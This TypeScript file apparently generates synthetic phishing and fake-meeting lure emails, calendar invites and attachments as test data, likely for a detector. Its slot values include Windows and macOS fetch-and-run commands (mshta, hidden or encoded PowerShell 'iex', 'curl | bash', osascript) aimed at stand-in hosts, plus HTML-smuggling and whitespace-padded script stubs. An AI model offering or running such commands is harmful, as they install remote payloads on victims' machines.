import type { Random } from '../../src/core/random.ts'
import { pick } from '../../src/core/random.ts'
import { imagined } from '../../src/measure/host/training/grammar.ts'

/** A message to be filled: `{slots}` are drawn anew for each copy. */
export interface Template {
  readonly family: string
  readonly form: 'txt' | 'eml' | 'ics'
  readonly text?: string
  readonly html?: string
  readonly from?: string
  readonly subject?: string
  readonly location?: string
  readonly bulk?: boolean
  readonly attachment?: { readonly name: string; readonly kind: AttachmentKind }
}

export type AttachmentKind = 'encrypted-zip' | 'lnk' | 'padded-script' | 'smuggling' | 'pdf'

const firsts = 'Alex Maria Jonas Priya Tom Lena Omar Sofia Daniel Yuki Chloe Mateo Nina Ravi Emma Lucas'.split(' ')
const lasts =
  'Berg Santos Novak Mehta Ellis Fischer Haddad Rossi Klein Tanaka Moreau Silva Petrov Shah Olsen Weber'.split(' ')
const funds = [
  'Northpeak Ventures',
  'Halden Capital',
  'Brightwell Fund',
  'Corvid Partners',
  'Tessera Digital',
  'Lumenfield VC',
]
const projects = ['Orbiter', 'Kestrel', 'Pylon', 'Mosaic', 'Quarry', 'Beacon']
const companies = [
  'kestrel-labs.example',
  'orbiter.example',
  'pylonworks.example',
  'mosaic-soft.example',
  'brightwell.example',
  'novabank.example',
]
const suffixes = ['online', 'xyz', 'us', 'live', 'cloud', 'site', 'com', 'team']
const letters = (random: Random, count: number): string =>
  Array.from({ length: count }, () => pick(random, [...'abcdefghijklmnopqrstuvwxyz'])).join('')
const digits = (random: Random, count: number): string =>
  Array.from({ length: count }, () => String(Math.floor(random.next() * 10))).join('')
const base64 = (text: string, encoding: BufferEncoding = 'utf8'): string =>
  Buffer.from(text, encoding).toString('base64')

/** Draws the slots of one copy. */
export function slots(random: Random): Record<string, string> {
  const first = pick(random, firsts)
  const suffix = pick(random, suffixes)
  const word = `${letters(random, 3)}${pick(random, ['vale', 'core', 'point', 'ridge', 'grid'])}`
  const fakeHost = (pattern: RegExp): string => {
    for (let tries = 0; tries < 400; tries++) {
      const [host] = imagined(random, 1) as [string]
      if (pattern.test(host)) return host
    }
    return `us0${digits(random, 1)}web-zoom.${suffix}`
  }
  const path = `/j/${digits(random, 11)}?pwd=${letters(random, 8)}`
  const drop = `https://${word}.${suffix}/${letters(random, 4)}`
  return {
    first,
    last: pick(random, lasts),
    firstl: first.toLowerCase(),
    you: pick(random, firsts),
    fund: pick(random, funds),
    project: pick(random, projects),
    exchange: pick(random, ['Kraken', 'Robinhood', 'Gemini']),
    company: pick(random, companies),
    funddomain: `${word}capital.${suffix}`,
    exchangehiring: `coinbase-${pick(random, ['talent', 'hiring', 'careers'])}.${suffix}`,
    slug: `${letters(random, 6)}${digits(random, 2)}`,
    handle: `${first.toLowerCase()}_${letters(random, 4)}`,
    fakehost: `us0${digits(random, 1)}web-zoom`,
    fakezoom: `https://${fakeHost(/zoom/)}${path}`,
    faketeams: `https://${fakeHost(/team/)}/meet/${digits(random, 10)}`,
    fakemeet: `https://${fakeHost(/meet/)}/${letters(random, 3)}-${letters(random, 4)}-${letters(random, 3)}`,
    neutralmeet: `https://${pick(random, ['meet', 'call', 'room', 'live'])}.${word}.${suffix}/${pick(random, ['room', 'j', 'join', 'meeting'])}/${digits(random, 6)}`,
    neutral: `https://${word}.${suffix}`,
    fakehire: `https://${word}-${pick(random, ['assess', 'hiring', 'talent', 'interview'])}.${suffix}/invite/${letters(random, 6)}`,
    fakedoc: `https://${fakeHost(/docsend|docs?|file|share/)}/view/${letters(random, 8)}`,
    fakedrive: `https://${fakeHost(/drive|google/)}/file/${letters(random, 8)}`,
    fakecalendly: `https://calendly.${word}.${suffix}/${first.toLowerCase()}/30min`,
    fixlink: `https://${word}.${suffix}/audio/fix/${digits(random, 7)}`,
    ip: `203.0.113.${Math.floor(random.next() * 250)}`,
    winpaste: pick(random, [
      `mshta ${drop}.hta # I am not a robot: reCAPTCHA ID ${digits(random, 4)}`,
      `powershell -w hidden -nop -c "iex(irm ${drop})"`,
      `powershell -NoP -W Hidden -Enc ${base64(`iwr ${drop} | iex`, 'utf16le')}`,
      `cmd /c curl -s ${drop}.bat -o %temp%\\u.bat && %temp%\\u.bat`,
      `msiexec /i ${drop} /qn`,
    ]),
    macpaste: pick(random, [
      `curl -fsSL ${drop} | bash`,
      `echo ${base64(`curl -s ${drop} | zsh`)} | base64 -D | zsh`,
      `/bin/zsh -c "$(curl -fsSL ${drop}.sh)"`,
      `curl -s ${drop} -o /tmp/zoom.scpt && osascript /tmp/zoom.scpt`,
    ]),
  }
}

/** A template as a file. */
export function fill(template: Template, random: Random): { name: string; bytes: Uint8Array } {
  const values = slots(random)
  const put = (text: string): string => text.replace(/\{(\w+)\}/g, (whole, name: string) => values[name] ?? whole)
  const name = `${template.family}-${letters(random, 5)}.${template.form}`
  if (template.form === 'txt') return { name, bytes: Buffer.from(put(template.text ?? '')) }
  if (template.form === 'ics') {
    const lines = [
      'BEGIN:VCALENDAR',
      'VERSION:2.0',
      'BEGIN:VEVENT',
      `UID:${letters(random, 10)}@example`,
      `ORGANIZER;CN=${put('{first} {last}')}:mailto:${put('{firstl}@{company}')}`,
      `SUMMARY:${put(template.subject ?? '')}`,
      `LOCATION:${put(template.location ?? '')}`,
      `DESCRIPTION:${put(template.text ?? '')}`,
      'DTSTART:20260401T150000Z',
      'END:VEVENT',
      'END:VCALENDAR',
    ]
    return { name, bytes: Buffer.from(lines.join('\r\n')) }
  }
  return { name, bytes: Buffer.from(mail(template, put, random)) }
}

function mail(template: Template, put: (text: string) => string, random: Random): string {
  const head = [
    `From: ${put(template.from ?? 'a@example')}`,
    'To: employee@ours.example',
    `Subject: ${put(template.subject ?? '')}`,
    'Date: Tue, 31 Mar 2026 10:00:00 +0000',
    `Message-ID: <${letters(random, 12)}@mail.example>`,
    'MIME-Version: 1.0',
    ...(template.bulk === true ? ['List-Unsubscribe: <mailto:u@example>'] : []),
  ]
  const body =
    template.html === undefined
      ? ['Content-Type: text/plain; charset=utf-8', '', put(template.text ?? '')]
      : ['Content-Type: text/html; charset=utf-8', '', put(template.html)]
  if (template.attachment === undefined) return [...head, ...body].join('\r\n')
  const attached = attachmentBytes(template.attachment.kind)
  return [
    ...head,
    'Content-Type: multipart/mixed; boundary=b1',
    '',
    '--b1',
    ...body,
    '--b1',
    `Content-Type: application/octet-stream; name="${template.attachment.name}"`,
    `Content-Disposition: attachment; filename="${template.attachment.name}"`,
    'Content-Transfer-Encoding: base64',
    '',
    attached.toString('base64'),
    '--b1--',
    '',
  ].join('\r\n')
}

/** Bytes with the marks of a type and nothing that would run. */
function attachmentBytes(kind: AttachmentKind): Buffer {
  if (kind === 'pdf') return Buffer.from('%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF')
  if (kind === 'lnk')
    return Buffer.concat([Buffer.from('4c0000000114020000000000c000000000000046', 'hex'), Buffer.alloc(60)])
  if (kind === 'smuggling')
    return Buffer.from(
      '<html><script>var b=atob("AAAA");var u=URL.createObjectURL(new Blob([b]));a.download="x.zip";a.click()</script></html>',
    )
  if (kind === 'padded-script')
    return Buffer.from(`-- support\n${'\n'.repeat(4000)}do shell script "curl -s https://x.invalid/a | zsh"\n`)
  const header = Buffer.alloc(30)
  header.write('PK\u0003\u0004', 'latin1')
  header.writeUInt16LE(1, 6)
  return Buffer.concat([header, Buffer.from('contract.pdf')])
}
